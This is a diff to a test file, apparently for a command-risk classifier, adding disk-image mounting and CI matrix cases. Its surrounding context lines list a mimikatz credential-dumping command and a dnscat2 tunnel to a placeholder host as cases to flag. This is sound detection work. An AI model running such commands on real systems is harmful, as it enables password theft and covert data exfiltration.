@@ -5901,6 +5901,13 @@ describe('the next stop, on the thirteen held out read after the last stop: what
     // A task named for an image's push.
     ['task docker:push', true, 'publishing'],
     ['npm run docker:build', false],
+    // A disk image mounted through FUSE, or its partitions mapped as the machine's devices.
+    ['ewfmount image.E01 raw', true, 'mounts'],
+    ['kpartx -r -a -v raw/ewf1', true, 'mounts'],
+    ['kpartx -l raw/ewf1', false],
+    // A toolchain at the version a CI matrix lists.
+    ['gcc-${{ matrix.gcc-version }} --version', false],
+    ['${{ matrix.cmd }} --version', true, 'computed'],
     // A Windows program run from the current directory (`.\name`, which the shell reads as `.name`).
     ['.\\mimikatz "privilege::debug" "sekurlsa::logonpasswords" exit', true, 'passwords'],
     ['.\\dnscat2.exe tunnel.example.com --secret KEY', true, 'tunnel'],
